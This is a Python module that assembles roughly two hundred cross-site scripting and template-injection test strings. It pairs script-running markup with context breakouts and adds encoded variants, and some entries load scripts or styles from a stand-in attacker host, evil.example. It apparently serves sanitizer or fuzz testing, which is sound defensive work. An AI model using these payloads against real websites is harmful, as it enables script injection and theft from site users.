"""Two hundred ways to have a page run what somebody wrote: ways out of where text stands, and what is tried outside."""

from collections.abc import Iterator

RUNS = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>press</a>", "<form action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>press</button>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<style onload=alert(1)></style>", "<template><script>alert(1)</script></template>",
    "<x style=animation-name:a onanimationstart=alert(1)>", "<img srcset=x onerror=alert`1`>",
    "<isindex type=image src=1 onerror=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
)  # fmt: skip
"""What would run where a browser reads it as markup."""
WAYS = ("", '">', "'>", "</title>", "</textarea>", "-->")
"""Out of text, of attributes in either quotation mark, of elements that hold text alone, of a comment."""
ALONE = (
    "' onmouseover='alert(1)", '" onmouseover="alert(1)', '" autofocus onfocus="alert(1)', "` onmouseover=`alert(1)",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "{{7*7}}", "{{ config }}", "{% raw %}", "{{''.__class__.__mro__}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "<!--", "<![CDATA[", "]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "+ADw-script+AD4-alert(1)",
    "<scr\0ipt>alert(1)",
    "\u2028<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>", "<b>bold</b>", "</main></body></html>", "<", ">", "&", '"', "'", "`", "=",
)  # fmt: skip
"""What fits no such product."""


def every() -> Iterator[str]:
    """Each once."""
    yield from dict.fromkeys((*(way + run for run in RUNS for way in WAYS), *ALONE))


VECTORS = tuple(one.replace("\0", "") for one in every())
